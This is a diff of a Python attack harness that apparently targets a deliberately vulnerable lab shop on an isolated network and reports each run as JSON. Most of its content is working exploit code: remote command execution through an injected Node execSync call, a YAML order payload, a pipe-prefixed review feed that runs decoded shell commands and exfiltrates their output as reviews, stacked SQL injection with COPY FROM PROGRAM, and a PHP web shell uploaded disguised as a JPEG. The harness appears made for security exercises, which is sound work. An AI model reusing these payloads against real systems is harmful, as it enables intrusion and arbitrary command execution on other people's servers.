@@ -1,10 +1,15 @@
 """What an attack is made of: it stands outside of the shop, on the attacker's place of the shop's
 network, asks the edge like everybody else, and prints one JSON object in the end.
 
-    attack          its name                         begin, end   Unix times; the first malicious request
-    technique       MITRE ATT&CK                     entry, path  the service broken into; the way there and on
-    touches         files, hosts, data               replicas     which replica of a service it was, as far as known
-    succeeded       proven; the exit code is 0 then  evidence     the proof
+    attack      its name
+    technique   as MITRE ATT&CK numbers it
+    begin, end  Unix times; it begins with the first malicious request
+    entry       the service broken into
+    path        the way there and on
+    touches     files, hosts, data
+    replicas    which replica of a service it was, as far as known
+    succeeded   proven; the exit code is 0 then
+    evidence    the proof
 
 It can do nothing outside of a shop that is up: the process leaves the host's network first.
 """
@@ -34,16 +39,16 @@ CARD = "4000000000000002"
 class Attack:
     """One run. The methods named after services are the holes: they run a command there."""
 
-    def __init__(self, technique: str, path: list[str], touches: list[str], entry: str | None = None):
-        self.facts = {"attack": Path(sys.argv[0]).stem, "technique": technique, "entry": entry or path[-1],
-                      "path": path, "touches": touches}
+    def __init__(self, technique: str, path: list[str], touches: list[str], entry: str = ""):
+        self.facts = {"attack": Path(sys.argv[0]).stem, "technique": technique,
+                      "entry": entry or path[-1], "path": path, "touches": touches}
         self.began, self.replicas, self.evidence = None, {}, {}
 
     def main(self, run) -> None:
         """Runs it; run(attack) returns whether it succeeded."""
         parser = argparse.ArgumentParser(description=sys.modules["__main__"].__doc__)
         parser.add_argument("--name", default="shop", help="the shop's name (shop)")
-        parser.add_argument("--pause", type=float, default=None, help="seconds between the steps of a slow one")
+        parser.add_argument("--pause", type=float, help="seconds between the steps of a slow one")
         options = parser.parse_args()
         self.shop, self.pause = Shop(options.name), options.pause
         if not self.shop.engine:
@@ -51,20 +56,21 @@ class Attack:
         self.own = self.shop.engine.address("attacker")
         with network.inside(self.shop.engine.place("attacker")):
             succeeded = bool(run(self))
-        print(json.dumps({**self.facts, "begin": self.began, "end": time.time(), "replicas": self.replicas,
-                          "succeeded": succeeded, "evidence": self.evidence}))
+        print(json.dumps({**self.facts, "begin": self.began, "end": time.time(),
+                          "replicas": self.replicas, "succeeded": succeeded,
+                          "evidence": self.evidence}))
         raise SystemExit(0 if succeeded else 1)
 
     def wait(self, seconds: float) -> None:
         """A pause of the patient; --pause overrides it."""
         time.sleep(seconds if self.pause is None else self.pause)
 
-    def visit(self, method: str, path: str, body=None, mime="application/json") -> tuple[int, str]:
+    def visit(self, method: str, path: str, body=b"", mime="application/json") -> tuple[int, str]:
         """A request in which there is no harm yet."""
-        data = body if isinstance(body, bytes) else None if body is None else json.dumps(body).encode()
+        data = body if isinstance(body, bytes) else json.dumps(body).encode()
         connection = http.client.HTTPConnection(*self.shop.edge, timeout=30)
         try:
-            connection.request(method, path, data, {"content-type": mime})
+            connection.request(method, path, data or None, {"content-type": mime})
             reply = connection.getresponse()
             replica = reply.headers.get("x-replica", "")
             if replica.rpartition("-")[0] == self.facts["entry"]:
@@ -73,14 +79,15 @@ class Attack:
         finally:
             connection.close()
 
-    def ask(self, method: str, path: str, body=None, mime="application/json") -> tuple[int, str]:
+    def ask(self, method: str, path: str, body=b"", mime="application/json") -> tuple[int, str]:
         """A malicious request."""
         self.began = self.began or time.time()
         return self.visit(method, path, body, mime)
 
     def prove(self, holds: bool, **evidence) -> bool:
         """Keeps the evidence; long texts are cut."""
-        self.evidence |= {key: value[:300] if isinstance(value, str) else value for key, value in evidence.items()}
+        self.evidence |= {key: value[:300] if isinstance(value, str) else value
+                          for key, value in evidence.items()}
         return holds
 
     # The holes.
@@ -89,7 +96,8 @@ class Attack:
         """A check-out with a name, or a payment, of the attacker's making."""
         cart = f"e{os.urandom(6).hex()}"
         self.visit("POST", f"/cart/{cart}", {"product": 1, "quantity": 1})
-        wish = {"cart": cart, "name": name, "address": "1 Way", "payment": {"card": CARD, "memo": "", **payment}}
+        wish = {"cart": cart, "name": name, "address": "1 Way",
+                "payment": {"card": CARD, "memo": "", **payment}}
         do = self.ask if payment or name != "Eve" else self.visit
         return json.loads(do("POST", "/orders/checkout", wish)[1])
 
@@ -123,8 +131,8 @@ class Attack:
 
     def cart(self, command: str) -> str:
         """The same, with a shell."""
-        command = f"({command}) 2>&1 || true"
-        return self.cart_code(f"return require('child_process').execSync(atob('{_base64(command)}')).toString()")
+        shell = f"execSync(atob('{_base64(f'({command}) 2>&1 || true')}'))"
+        return self.cart_code(f"return require('child_process').{shell}.toString()")
 
     def orders(self, command: str) -> str:
         """A bulk order in YAML that has the customer's name computed."""
@@ -137,10 +145,12 @@ class Attack:
     def reviews(self, command: str) -> str:
         """A feed that is a command; what it says comes back as reviews."""
         product = 1000 + int.from_bytes(os.urandom(3), "big")
-        pipe = f"echo {_base64(command)} | base64 -d | sh 2>&1 | base64 -w 190 | sed s/^/{product},1,/"
-        self.ask("POST", "/reviews/import", {"feed": f"|{pipe}"})
+        pipe = (f"|echo {_base64(command)} | base64 -d | sh 2>&1"
+                f" | base64 -w 190 | sed s/^/{product},1,/")
+        self.ask("POST", "/reviews/import", {"feed": pipe})
         lines = json.loads(self.ask("GET", f"/reviews/{product}")[1])["reviews"]
-        return base64.b64decode("".join(line.split(" ")[1] for line in reversed(lines))).decode(errors="replace")
+        said = "".join(line.split(" ")[1] for line in reversed(lines))
+        return base64.b64decode(said).decode(errors="replace")
 
     def sql(self, statements: str, select: str) -> str:
         """Words of a search that end the statement and begin others; the last one's text."""
@@ -152,12 +162,14 @@ class Attack:
         """A program on the database's host, run by the database."""
         escaped = f"({command}) 2>&1; true".replace("'", "''")
         return self.sql(f"DROP TABLE IF EXISTS said; CREATE TEMP TABLE said (line text);"
-                        f" COPY said FROM PROGRAM '{escaped}';", r"SELECT string_agg(line, E'\n') FROM said")
+                        f" COPY said FROM PROGRAM '{escaped}';",
+                        r"SELECT string_agg(line, E'\n') FROM said")
 
     def media(self, command: str, shell="lizard-1.php") -> str:
         """A picture that is a PHP script, sent first if need be; then it is asked."""
         if self.ask("GET", f"/media/uploads/{shell}")[0] != 200:
-            script = b"<?php header('x-replica: ' . gethostname()); system(base64_decode($_GET['c'] ?? '') . ' 2>&1');"
+            script = (b"<?php header('x-replica: ' . gethostname());"
+                      b" system(base64_decode($_GET['c'] ?? '') . ' 2>&1');")
             self.ask("POST", f"/media/upload?name={shell}", script, "image/jpeg")
         return self.ask("GET", f"/media/uploads/{shell}?c={quote(_base64(command))}")[1]
 
